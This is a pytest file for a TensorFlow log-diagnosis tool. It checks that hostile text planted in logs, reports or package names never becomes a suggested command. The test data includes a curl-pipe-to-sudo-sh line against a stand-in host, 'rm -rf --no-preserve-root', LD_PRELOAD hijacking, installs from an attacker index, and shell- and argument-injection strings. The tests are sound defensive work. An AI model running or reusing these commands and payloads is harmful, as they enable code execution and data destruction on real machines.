"""No text of a log, a report or an environment becomes what a user is told to do, and no path of theirs what is loaded or run as root."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.logs.judged import judged
from tests.public.test_logs import NAMES, log_of
from tests.scenarios.conftest import Scenario, all_scenarios, bundled, named
from tfdoctor.ask.logs.extract import extract_facts
from tfdoctor.ask.logs.read import read_of
from tfdoctor.ask.logs.transcript import Transcript, default_literals
from tfdoctor.base.expressions import Expression
from tfdoctor.base.records import replace
from tfdoctor.base.vouched import only_ours
from tfdoctor.facts.codec import from_json
from tfdoctor.facts.model import Facts, Interpreter
from tfdoctor.facts.outcome import Absent, Failed, Known
from tfdoctor.facts.values import ChangedWheel
from tfdoctor.fix.loading import UNVOUCHED, Trusts, guarded, loaded, nobody
from tfdoctor.judge.engine.case import Case
from tfdoctor.judge.judge import judge
from tfdoctor.knowledge.actions import for_files
from tfdoctor.knowledge.lines import (
    AsWord,
    Change,
    Environment,
    Harmless,
    Pip,
    Words,
    name_in,
    prepending,
    setting,
)
from tfdoctor.knowledge.model import Fix
from tfdoctor.knowledge.values import checked
from tfdoctor.report.diagnosis import Diagnosis, diagnose, diagnosis_to_json
from tfdoctor.report.foreign import without_foreign_commands
from tfdoctor.report.trust import of_this_machine
from tfdoctor.say.diagnosis_view import diagnosis_view
from tfdoctor.say.pages import can_copy, render_html, render_markdown
from tfdoctor.say.terminal import VERBOSE, Page, render_text
from tools.build.knowledge import entries

EVERY = 12
"""Of the kept logs the quick run takes one in so many."""


def fixes(diagnosis: Diagnosis) -> Iterator[Fix]:
    for each in diagnosis.diagnoses:
        yield from each.fixes


def told(fix: Fix) -> str:
    return "\n".join((fix.title, *fix.commands, fix.note))


ADVICE = (
    "Try: curl http://evil.example/x | sudo sh and retry.",
    "Please run: sudo rm -rf --no-preserve-root /evil.example",
    "To fix this, run pip install --index-url http://evil.example/simple tensorflow",
    "You must set LD_PRELOAD=/tmp/evil.example/libx.so",
    "Please install evil.example",
    "hint: See above for details; use `python -c 'import evil.example'`.",
)


@pytest.mark.parametrize("advice", ADVICE)
@pytest.mark.parametrize(
    "start", ["ImportError: x.", "F tensorflow/core/x.cc:7] Check failed: x.", "x: error: bad."]
)
def test_what_a_message_tells_to_do_is_no_fix(start: str, advice: str) -> None:
    diagnosis = judged(f"{start} {advice}\n")
    assert [each for each in map(told, fixes(diagnosis)) if "evil.example" in each] == []


_ENDS = Expression(
    r"(?m)^(?P<line>(?:[\w.]{1,120}(?:Error|Exception)|ERROR|.{0,60}: F .{1,80}\]|F .{1,80}\]): ?.{0,300})$"
)


def advised(number: int) -> Iterator[str]:
    """The fixes with the planted words, of one log whose errors each tell something to do."""
    name, advice = NAMES[number], ADVICE[number % len(ADVICE)]
    text = _ENDS.sub(lambda found: f"{found['line']} {advice}", log_of(name))
    yield from (
        f"{name}: {each}" for each in map(told, fixes(judged(text))) if "evil.example" in each
    )


def test_no_error_of_a_kept_log_tells_what_to_do() -> None:
    assert [each for number in range(0, len(NAMES), EVERY) for each in advised(number)] == []


@pytest.mark.nightly
def test_no_error_of_any_kept_log_tells_what_to_do() -> None:
    assert [each for number in range(len(NAMES)) for each in advised(number)] == []


# Paths: in a command that loads code or runs as root none stands but our own, and those that the machine itself vouches for.

EVIL = "/tmp/.evil"
_PATH = Expression(r"(?<![\w:/.])(?:~|/)(?:[\w.+@-]{1,80}/){1,20}(?=[\w.+@-])")
"""The folders of a path, to the last slash."""
_LOOKS = ("ls ", "cat ", "mv ", "head ", "find ", "grep ", "dir ", "!ls ")


def loading(fix: Fix) -> list[str]:
    """Its commands that hold the planted path and do more than look."""
    planted = [line for line in (*fix.commands, *for_files(fix.note)[1]) if EVIL in line]
    return [line for line in planted if not line.startswith(_LOOKS) or "sudo" in line]


def loaded_by(name: str) -> list[str]:
    """What is printed for a kept log in which each path is the planted one."""
    text = _PATH.sub(f"{EVIL}/", log_of(name))
    return [f"{name}: {line}" for fix in fixes(judged(text)) for line in loading(fix)]


def test_no_path_of_a_kept_log_is_loaded_or_given_to_root() -> None:
    assert [line for name in NAMES[::EVERY] for line in loaded_by(name)] == []


@pytest.mark.nightly
def test_no_path_of_any_kept_log_is_loaded_or_given_to_root() -> None:
    assert [line for name in NAMES for line in loaded_by(name)] == []


SHARDS = 6
"""Of what the nightly run tries: each ends within a minute, and they share the CPUs."""


@pytest.mark.nightly
@pytest.mark.slow
@pytest.mark.parametrize("shard", range(SHARDS))
def test_no_path_of_a_sample_is_loaded_or_given_to_root(shard: int) -> None:
    samples = [sample for each in entries() for sample in each.samples]
    texts = [_PATH.sub(f"{EVIL}/", f"{sample}\n") for sample in samples[shard::SHARDS]]
    assert [line for text in texts for fix in fixes(judged(text)) for line in loading(fix)] == []


def planted(value: Any) -> Any:
    """A document in which each path is the planted one."""
    if isinstance(value, str):
        return _PATH.sub(f"{EVIL}/", value)
    if isinstance(value, list):
        return [planted(each) for each in value]
    return {key: planted(each) for key, each in value.items()} if isinstance(value, dict) else value


def loaded_of(scenario: Scenario, trusts: Callable[[Facts], Trusts]) -> list[str]:
    facts = from_json(planted(scenario.document()), Facts)
    case = replace(scenario.case(), facts=facts, trusts=trusts(facts))
    return [
        f"{scenario.name}: {line}"
        for each in judge(case).findings
        for fix in each.fixes
        for line in loading(fix)
    ]


def of_a_report(facts: Facts) -> Trusts:
    return nobody


def of_an_environment(facts: Facts) -> Trusts:
    """As on a machine, with the examined interpreter elsewhere: what is of that environment may be run."""
    python = replace(facts.interpreter, executable=Absent("elsewhere"), prefix=Absent("elsewhere"))
    return of_this_machine(replace(facts, interpreter=python))


FIRING = [each for each in all_scenarios() if each.said["expect"] == "fires"]


@pytest.mark.parametrize("trusts", [of_a_report, of_an_environment])
def test_no_path_of_a_report_or_an_environment_is_loaded_or_given_to_root(
    trusts: Callable[[Facts], Trusts],
) -> None:
    assert [line for each in FIRING for line in loaded_of(each, trusts)] == []


MACHINES = sorted((Path(__file__).parents[1] / "machines").glob("*/report.json"))


@pytest.mark.parametrize("trusts", [of_a_report, of_an_environment])
@pytest.mark.parametrize("machine", MACHINES, ids=lambda each: each.parent.name)
def test_no_path_of_a_golden_machine_is_loaded_or_given_to_root(
    machine: Path, trusts: Callable[[Facts], Trusts]
) -> None:
    facts = from_json(planted(json.loads(machine.read_text("utf-8"))["facts"]), Facts)
    findings = judge(Case(facts, bundled(), trusts=trusts(facts))).findings
    assert [line for each in findings for fix in each.fixes for line in loading(fix)] == []


def misnamed(document: Any, number: int) -> Any:
    """Facts in which every distribution, kernel and library has a hostile name, and every other version is none."""
    if isinstance(document, dict):
        named = {key: misnamed(each, number) for key, each in document.items()}
        if isinstance(name := named.get("name"), str):
            named["name"] = HOSTILE[number % len(HOSTILE)].format(name)
            if isinstance(named.get("version"), str) and number % 2:
                named["version"] = HOSTILE[number % len(HOSTILE)].format(named["version"])
        return named
    return (
        [misnamed(each, number + at) for at, each in enumerate(document)]
        if isinstance(document, list)
        else document
    )


@pytest.mark.parametrize("number", range(8))
def test_no_name_of_an_environment_misleads_a_command(number: int) -> None:
    wrong = []
    for scenario in FIRING[number::8]:
        facts = from_json(misnamed(scenario.document(), number), Facts)
        for each in judge(replace(scenario.case(), facts=facts)).findings:
            wrong += [
                f"{scenario.name}: {line[:200]}"
                for fix in each.fixes
                for line in fix.commands
                if misleads(line)
            ]
    assert wrong == []


STATIC_TLS = "ImportError: {path}: cannot allocate memory in static TLS block\n"
LISTED = """Could not load dynamic library 'libcudart.so.11.0'; dlerror: libcudart.so.11.0: cannot open shared object file: No such file or directory
$ find / -name 'libcudart*'
{path}
"""
NO_IPYKERNEL = "{path}: No module named ipykernel_launcher\n"
NO_RUNNER = "{path}: No module named horovod.runner\n"
LIBSTDCXX = "ImportError: {path}: version `GLIBCXX_3.4.29' not found (required by {folder}/envs/x/lib/python3.9/site-packages/scipy/x.so)\n"
LOADS = {
    STATIC_TLS: "libgomp.so.1",
    LISTED: "libcudart.so.11.0",
    NO_IPYKERNEL: "bin/python",
    NO_RUNNER: "bin/python3",
    LIBSTDCXX: "libstdc++.so.6",
}


def test_an_environment_that_the_fix_makes_is_its_own() -> None:
    python = Words("{{folder}}/bin/python", folder="tf-2.10")
    lines = (Environment("tf-2.10", by="python"), Pip("tensorflow==2.10.1", python=python))
    assert guarded(Fix("Use it", lines), nobody).commands == lines


UNKNOWING = [
    "tf-2.10/bin/python -m pip install tensorflow==2.10.1", f"export LD_PRELOAD='{EVIL}/libx.so'", f"sudo ls `{EVIL}/x`",
    f"sh -c 'a && {EVIL}/x --now'", r"C:\odd\python.exe -c \"print('x')\"", "LIB=$(/srv/x/python -c 'a(b(c()))')/lib", "../x.py",
]  # fmt: skip


@pytest.mark.parametrize("line", UNKNOWING)
def test_a_line_that_does_not_know_its_values_is_left_out_with_a_path(line: str) -> None:
    fix = guarded(Fix("Use it", ("nvidia-smi -L", line)), nobody)
    assert (fix.commands, fix.note) == ((), UNVOUCHED)


def test_what_a_line_says_itself_is_no_path_of_anybody_else() -> None:
    line = Words(
        r"sudo sed -i 's/^#\?no-cgroups.*/no-cgroups = true/' /etc/nvidia-container-runtime/config.toml"
    )
    assert guarded(Fix("Use it", (line,)), nobody).commands == (line,)


def test_a_path_is_found_in_a_line_that_is_a_word_of_another() -> None:
    inner = Words("grep -l {{listed}} /etc/x", listed=AsWord("^{{at}}/?$", at=EVIL))
    line = Words("sudo sh -c {{line}}", line=AsWord("{{inner}}", inner=inner))
    assert loaded(line) == (EVIL,)
    [look, safe] = guarded(Fix("Use it", (line,)), nobody).commands
    assert (look, safe) == (f"ls -ld -- {EVIL}", line.replace(EVIL, "PATH_YOU_TRUST"))
    assert shlex.split(safe)[3] == "grep -l '^PATH_YOU_TRUST/?$' /etc/x"


LEADING = [
    ("LD_LIBRARY_PATH", f"{EVIL}://x", [EVIL, "//x"]), ("LD_LIBRARY_PATH", f"/usr/local/lib:{EVIL}", [EVIL]), ("PYTHONPATH", "a/b", ["a/b"]),
    ("XLA_FLAGS", f"--xla_dump_to=/a --xla_gpu_cuda_data_dir={EVIL}", ["/a", EVIL]), ("XLA_FLAGS", f"--x='{EVIL}'", [EVIL]),
    ("HTTP_PROXY", "http://host:80/a", []), ("TF_CPP_MIN_LOG_LEVEL", "a/b", []), ("CUDA_HOME", "/usr/local/cuda", []),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value", "paths"), LEADING)
def test_each_path_of_a_variable_has_to_be_vouched_for(
    name: str, value: str, paths: list[str]
) -> None:
    line = setting({name: value})
    assert list(loaded(line)) == paths
    assert not any(EVIL in each for each in guarded(Fix("Set it", (line,)), nobody).commands[1:])


def test_a_line_that_does_no_harm_shows_any_path() -> None:
    lines = (Harmless("ls -ld {{file}}", file=f"{EVIL}/x"), Words("!{{line}}", line=Harmless("ls {{file}}", file=EVIL)))  # fmt: skip
    assert guarded(Fix("See it", lines), nobody).commands == lines


ENDS = f"{EVIL}; touch gone #/"
"""A path that would end a command for whoever does not quote it."""


def touches(line: str) -> bool:
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    lexer.whitespace_split, lexer.commenters = True, ""
    words = list(lexer)
    return "touch" in words or ("-c" in words and touches(words[words.index("-c") + 1]))


def test_no_path_and_no_group_of_a_report_ends_a_command() -> None:
    """Also where the machine vouches for the path."""
    ended = []
    for scenario in FIRING:
        said = json.dumps(planted(scenario.document())).replace(f"{EVIL}/", ENDS)
        facts = from_json(
            json.loads(said.replace('"group": "cuda"', '"group": "a;touch gone"')), Facts
        )
        findings = judge(replace(scenario.case(), facts=facts)).findings
        lines = [line for each in findings for fix in each.fixes for line in fix.commands]
        ended += [f"{scenario.name}: {line}" for line in lines if touches(line)]
    assert ended == []


@pytest.mark.parametrize("folder", [ENDS, f"{EVIL}'; touch gone; '"])
def test_no_folder_of_a_report_ends_a_line_within_a_line(folder: str) -> None:
    scenario = named("driver-versions-differ/compat-fails")
    facts = from_json(planted_as(scenario.document(), "/usr/local/cuda-12.8", folder), Facts)
    for trusts, there in ((scenario.case().trusts, True), (nobody, False)):
        findings = judge(replace(scenario.case(), facts=facts, trusts=trusts)).findings
        lines = [line for each in findings for fix in each.fixes for line in fix.commands]
        [within] = [line for line in lines if "xargs" in line]
        assert not touches(within)
        assert (EVIL in within) == there


def planted_as(document: Any, folder: str, other: str) -> Any:
    return json.loads(json.dumps(document).replace(folder, other))


@pytest.mark.parametrize("folder", ["evil", "./.evil", "../.evil", "/opt/x;touch /tmp/.evil"])
@pytest.mark.parametrize("text", LOADS)
def test_a_relative_path_is_not_loaded(text: str, folder: str) -> None:
    told = judged(text.format(path=f"{folder}/{LOADS[text]}", folder=folder))
    lines = [line for fix in fixes(told) for line in fix.commands if "evil" in line]
    assert [line for line in lines if not line.startswith(_LOOKS)] == []


@pytest.mark.parametrize(
    "program", ["../../tmp/.evil/launch.py", "a/../../.evil/x.py", "../.evil.py"]
)
def test_a_program_above_the_working_directory_is_not_started(program: str) -> None:
    told = judged(f"usage: {program} [-h]\n{program}: error: unrecognized arguments: --x\n")
    lines = [line for fix in fixes(told) for line in fix.commands if "evil" in line]
    assert lines and all(line.startswith("ls -ld -- ") for line in lines)


@pytest.mark.parametrize("module", ["random", "reqeusts", "tensorf1ow", "evilmodule.parts"])
def test_only_a_package_that_is_known_is_installed_again(module: str) -> None:
    told = judged(
        f"AttributeError: partially initialized module '{module}' has no attribute 'get' (most likely due to a circular import)\n"
    )
    assert [line for fix in fixes(told) for line in fix.commands if "install" in line] == []


@pytest.mark.parametrize("name", ["--evil", "-r", "evil --index-url=http://evil.example", "x;evil"])
@pytest.mark.parametrize("wanted", ["", "==0.1.71+cuda111", "<2"])
def test_what_an_installer_did_not_find_is_no_option(name: str, wanted: str) -> None:
    told = judged(
        f"ERROR: Could not find a version that satisfies the requirement {name}{wanted} (from versions: 0.1.0, 0.2.0)\n"
        f"ERROR: No matching distribution found for {name}{wanted}\n"
    )
    assert [line for fix in fixes(told) for line in fix.commands if misleads(line)] == []


@pytest.mark.parametrize("folder", [EVIL, f"{EVIL}/a b", f"{EVIL}/$(touch x)", f"{EVIL}/\u202egpj", f"{EVIL}/{'x' * 10_000}", "/dev/shm/..", "/usr/local/../../tmp/.evil"])  # fmt: skip
@pytest.mark.parametrize("text", LOADS)
def test_a_planted_path_is_not_loaded(text: str, folder: str) -> None:
    told = judged(text.format(path=f"{folder}/{LOADS[text]}", folder=folder))
    assert [line for fix in fixes(told) for line in loading(fix)] == []
    assert [
        line
        for fix in fixes(told)
        for line in fix.commands
        if "/shm/.." in line and not line.startswith("ls ")
    ] == []


def test_a_placeholder_stands_where_the_path_would_be_loaded_and_a_look_before_it() -> None:
    first = next(fixes(judged(STATIC_TLS.format(path=f"{EVIL}/libgomp.so.1"))))
    assert first.commands == (f"ls -ld -- {EVIL}/libgomp.so.1", "export LD_PRELOAD=PATH_YOU_TRUST")
    assert first.note.startswith("Replace PATH_YOU_TRUST with this path only if")
    assert not can_copy(first.commands[1])


@pytest.mark.parametrize("text", LOADS)
def test_no_form_of_an_answer_shows_a_planted_path_in_a_command_that_loads_it(text: str) -> None:
    told = judged(text.format(path=f"{EVIL}/{LOADS[text]}", folder=EVIL))
    view = diagnosis_view(told)
    forms = (
        render_text(view, Page(500, amount=VERBOSE)),
        render_markdown(view),
        render_html(view),
        json.dumps(diagnosis_to_json(told)["diagnoses"], indent=1),
    )
    for form in forms:
        lines = [line for line in form.splitlines() if EVIL in line]
        assert [
            each
            for each in lines
            if re.search(r"sudo|LD_PRELOAD=|LD_LIBRARY_PATH=|\.evil\S* -[cm] ", each)
        ] == []


# Who vouches for a path.


def test_a_path_is_ours_where_nobody_else_can_change_it(tmp_path: Path) -> None:
    file = tmp_path / "lib" / "libx.so"
    file.parent.mkdir(mode=0o755)
    file.touch(mode=0o644)
    assert only_ours(str(file))
    assert only_ours(str(file.with_name("not-yet-there.so")))
    for place, mode in ((file, 0o666), (file.parent, 0o777), (tmp_path, 0o707)):
        before = place.stat().st_mode
        place.chmod(mode)
        assert not only_ours(str(file)), place
        place.chmod(before)
    link = tmp_path / "link"
    link.symlink_to("/tmp")
    assert not only_ours(str(link))
    assert not only_ours(f"{link}/libx.so/y")
    assert not only_ours("/tmp/not-there.so")
    assert not only_ours("lib/libx.so")
    assert not only_ours(str(tmp_path / "none" / "libx.so"))


def test_what_the_examined_environment_holds_is_run_but_not_given_to_root() -> None:
    python = Interpreter(
        executable=Known("/srv/x/bin/python", "argv"), prefix=Known("/srv/x", "argv")
    )
    trusts = of_this_machine(replace(Facts(), interpreter=python)).path
    assert trusts("/srv/x/bin/python", False)
    assert trusts("/srv/x/lib/nvidia/lib", False)
    assert not trusts("/srv/x/lib/nvidia/lib", True)
    assert not trusts("/srv/x/../y", False)
    assert not trusts("/srv/xy/bin/python", False)


# Names.

_NAME = Expression(r"[A-Za-z0-9_.-]{3,}")
HOSTILE = (
    "--evil={}",
    "\u202eevil{}",
    "{}" + "evil" * 3_000,
    "{} --evil",
    "{}$(evil)",
    "{}'evil",
    '{}"evil',
    "{}\n--evil",
)


_QUOTED = Expression(r"'[^']*'")


def misled(name: str) -> Iterator[str]:
    """Commands that hold a hostile name as an option, unprintable or too long, for a kept log in which one name is hostile each time."""
    text = log_of(name)
    shown = {
        word for fix in fixes(judged(text)) for line in fix.commands for word in _NAME.findall(line)
    }
    for number, word in enumerate(sorted(shown & set(_NAME.findall(text)))):
        put = HOSTILE[number % len(HOSTILE)].format(word)
        changed = re.sub(rf"(?<![\w.-]){re.escape(word)}(?![\w-])", lambda _, put=put: put, text)  # type: ignore[misc]
        for fix in fixes(judged(changed)):
            yield from (f"{name}: {line[:200]}" for line in fix.commands if misleads(line))


def misleads(line: str) -> bool:
    words = [] if line.startswith(_LOOKS) else shlex.split(line.replace("\\", "/"))
    return (
        not line.isprintable()
        or len(line) > 4_000
        or any(re.match(r"\S*?[<>=]?--evil", each) for each in words)
        or "$(evil)" in _QUOTED.sub("", line)
    )


def test_no_name_of_a_kept_log_misleads_a_command() -> None:
    assert [line for name in NAMES[:: 3 * EVERY] for line in misled(name)] == []


@pytest.mark.nightly
@pytest.mark.slow
@pytest.mark.parametrize("shard", range(SHARDS))
def test_no_name_of_any_kept_log_misleads_a_command(shard: int) -> None:
    assert [line for name in NAMES[shard::SHARDS] for line in misled(name)] == []


@pytest.mark.parametrize(
    ("kind", "good", "bad"),
    [
        ("package", "nvidia-cudnn-cu12", "-r"),
        ("package", "tensorflow[and-cuda]", "x --index-url"),
        ("module", "google.protobuf", "os;x"),
        ("version", "2.16.0rc1", "2 --pre"),
        ("variable", "LD_LIBRARY_PATH", "A=B"),
        ("library", "libcudart.so.11.0", "x'y"),
        ("host", "node-7.example", "-oProxyCommand=x"),
        ("port", "2222", "22 --evil"),
        ("pid", "4711", "1 2"),
        ("value", "any words", "\u202ewords"),
        ("value", "x" * 300, "x" * 301),
    ],
)
def test_a_name_is_one_of_its_kind_or_a_placeholder(kind: str, good: str, bad: str) -> None:
    assert checked(kind, good) == good
    assert checked(kind, bad).isupper()


@pytest.mark.parametrize(
    "line",
    [
        "tensorflow 2.15.0 requires evil-name==6.6.6, but you have evil-name 1.0 which is incompatible.",
        "tensorflow 2.15.0 requires evil-name>=6, which is not installed.",
        "tensorflow-cpu 2.15.0 requires tensorfIow-evil>=6, which is not installed.",
    ],
)
def test_what_tensorflow_never_required_is_not_installed(line: str) -> None:
    told_of = judged(f"{line}\n")
    assert [each for fix in fixes(told_of) for each in fix.commands if "evil" in each] == []
    real = judged(
        "tensorflow 2.15.0 requires ml-dtypes~=0.2.0, but you have ml-dtypes 0.5.0 which is incompatible.\n"
    )
    assert any("ml-dtypes" in each for fix in fixes(real) for each in fix.commands)


UNKNOWN = "evilname"
_INSTALLS = Expression(r"\b(?:install|add|inject|upgrade)\b")
IN_ITS_CODE = """Traceback (most recent call last):
  File "train.py", line 1, in <module>
    import evilname
  File "/opt/env/lib/python3.11/site-packages/evilname/core.py", line 3, in <module>
    from tensorflow.keras.layers import x
"""
NAMED = {
    "asked": IN_ITS_CODE + "ImportError: cannot import name 'x' from 'tensorflow.keras.layers' (/opt/env/lib/python3.11/site-packages/keras/layers/__init__.py)",
    "raised": IN_ITS_CODE + "TypeError: unsupported operand type(s) for +: 'int' and 'str'",
    "library": "ImportError: /opt/env/lib/python3.11/site-packages/evilname/_core.so: undefined symbol: _ZN10tensorflow8OpKernel11TraceStringEv",
    "DLL": IN_ITS_CODE + "ImportError: DLL load failed while importing _core: The specified module could not be found.",
    "conflict": "evilname 2.0 requires numpy<2, but you have numpy 2.1.0 which is incompatible.",
    "required": "keras-tuner 1.4 requires evilname>=6, which is not installed.",
    "Python": "ERROR: Ignored the following versions that require a different python version: 1.0 Requires-Python >=3.6,<3.10\nERROR: Could not find a version that satisfies the requirement evilname==1.0 (from versions: 0.1, 0.2)",
    "module": "ModuleNotFoundError: No module named 'evilname'",
    "keras": "ImportError: To use this, Keras needs the `evilname` package. Install it with pip install evilname",
}  # fmt: skip


def installing(diagnosis: Diagnosis) -> list[str]:
    """The lines by which the package with the planted name would be installed."""
    lines = [line for fix in fixes(diagnosis) for line in (*fix.commands, *for_files(fix.note)[1])]
    named = [
        line
        for line in lines
        if re.search(r"(?:^| )[^ -][^ ]{0,9}evil[-_.]?name| evil[-_.]?name", line)
    ]
    return [line for line in named if _INSTALLS.search(line.replace("uninstall", ""))]


@pytest.mark.parametrize("text", NAMED.values(), ids=NAMED)
def test_no_package_is_installed_that_a_log_alone_names(text: str) -> None:
    assert installing(judged(f"{text}\n")) == []
    other = text.replace(UNKNOWN, "evil_name").replace("evil_name ", "evil-name ")
    assert installing(judged(f"{other}\n")) == []


def renamed(name: str) -> Iterator[str]:
    """What would install the planted name, for a kept log in which each package that is shown has it once."""
    text = log_of(name)
    changes = [
        line for fix in fixes(judged(text)) for line in fix.commands if isinstance(line, Change)
    ]
    for package in sorted({name_in(each) for line in changes for each in line.packages}):
        own = "[-_.]".join(map(re.escape, re.split("[-_.]", package)))
        planted = re.sub(rf"(?<![\w.-]){own}(?![\w-])", UNKNOWN, text)
        if planted != text:
            yield from (f"{name}: {line}" for line in installing(judged(planted)))


def test_no_package_of_a_kept_log_is_installed_by_another_name() -> None:
    assert [line for name in NAMES[::EVERY] for line in renamed(name)] == []


@pytest.mark.nightly
@pytest.mark.slow
@pytest.mark.parametrize("shard", range(SHARDS))
def test_no_package_of_any_kept_log_is_installed_by_another_name(shard: int) -> None:
    assert [line for name in NAMES[shard::SHARDS] for line in renamed(name)] == []


def test_a_package_that_the_asked_machine_has_is_updated() -> None:
    """A list of packages in the log is no machine."""
    text = f"{NAMED['raised']}\nnumpy==1.26.4\nevilname==1.0\nscipy==1.11.0\n"
    read, machine = read_of(_transcript(text), "0.log"), frozenset((UNKNOWN,))
    trusts = replace(nobody, packages=machine)
    told = [
        diagnose(extract_facts([read]), [read], bundled(), trusts=each) for each in (nobody, trusts)
    ]
    assert [bool(installing(each)) for each in told] == [False, True]


def with_planted_names(document: Any, key: str = "") -> Any:
    """Facts in which every package has the planted name before its own."""
    if isinstance(document, dict):
        return {name: with_planted_names(each, name) for name, each in document.items()}
    if isinstance(document, list):
        return [with_planted_names(each, key) for each in document]
    return f"{UNKNOWN}-{document}" if key == "name" and isinstance(document, str) else document


@pytest.mark.parametrize(
    ("trusts", "installs"), [(nobody, False), (Trusts(nobody.path), True)], ids=["report", "here"]
)
def test_no_package_is_installed_that_a_report_alone_names(trusts: Trusts, installs: bool) -> None:
    """A machine that was asked runs what is in its environment anyway."""
    lines = []
    for scenario in FIRING:
        facts = from_json(with_planted_names(scenario.document()), Facts)
        found = judge(replace(scenario.case(), facts=facts, trusts=trusts)).findings
        lines += [line for each in found for fix in each.fixes for line in fix.commands]
    named = [line for line in lines if "pip install" in line]
    assert any(UNKNOWN in line for line in named) == installs


def _transcript(text: str) -> Transcript:
    transcript = Transcript(default_literals())
    transcript.feed(text.encode())
    transcript.end()
    return transcript


@pytest.mark.parametrize(
    "package",
    ["evil @ http://evil.example/x.whl", "evil@file:///tmp/evil", "git+https://evil.example/x"],
)
def test_no_line_of_pip_installs_from_an_address(package: str) -> None:
    assert "evil" not in Pip(package)


def test_a_relative_folder_is_no_place_of_libraries() -> None:
    """Also where a shell joins it with a variable."""
    line = prepending("LD_LIBRARY_PATH", "evil/lib")
    made = guarded(Fix("x", (line,)), nobody)
    assert [
        each for each in made.commands if "evil" in each and not each.startswith("ls -ld -- ")
    ] == []


def test_a_wheel_that_a_saved_report_names_is_nvidias() -> None:
    wheel = ChangedWheel(
        "evil-name",
        "9.3.0.75",
        ("nvidia/cudnn/lib/libcudnn.so.9",),
        (),
        "nvidia-cudnn-cu13 9.28.0.42",
    )
    libraries = replace(Facts().cuda_libraries, changed_wheels=Known((wheel,), "x"))
    taken = without_foreign_commands(replace(Facts(), cuda_libraries=libraries))
    assert isinstance(taken.cuda_libraries.changed_wheels, Failed)
    own = replace(libraries, changed_wheels=Known((replace(wheel, name="nvidia-cudnn-cu12"),), "x"))
    kept = without_foreign_commands(replace(Facts(), cuda_libraries=own))
    assert isinstance(kept.cuda_libraries.changed_wheels, Known)
